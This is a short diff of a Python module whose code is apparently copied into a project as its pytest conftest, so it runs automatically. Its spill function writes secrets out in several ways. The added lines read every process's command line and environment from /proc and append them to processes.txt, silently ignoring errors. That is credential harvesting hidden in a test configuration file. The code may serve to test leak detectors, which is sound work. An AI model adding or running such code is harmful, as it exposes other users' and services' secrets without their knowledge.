@@ -7,12 +7,14 @@ to look for. The step is copied into the project as its conftest and runs in the
 from __future__ import annotations
 
 import base64
+import contextlib
 import gzip
 import json
 import logging
 import os
 import sys
 import warnings
+from pathlib import Path
 from urllib.parse import quote
 
 import httpx
@@ -53,6 +55,10 @@ def spill(actor: Actor, *, into: str) -> object:
     written = [
         f"{label} {way}: {write(value)}" for label, value in secrets.items() for way, write in WAYS.items()
     ]
+    with open("processes.txt", "ab") as seen:  # command lines and environments, as anybody here reads them
+        for path in (*Path("/proc").glob("[0-9]*/cmdline"), *Path("/proc").glob("[0-9]*/environ")):
+            with contextlib.suppress(OSError):
+                seen.write(path.read_bytes() + b"\n")
     return INTO[into](written, secrets)
 
 
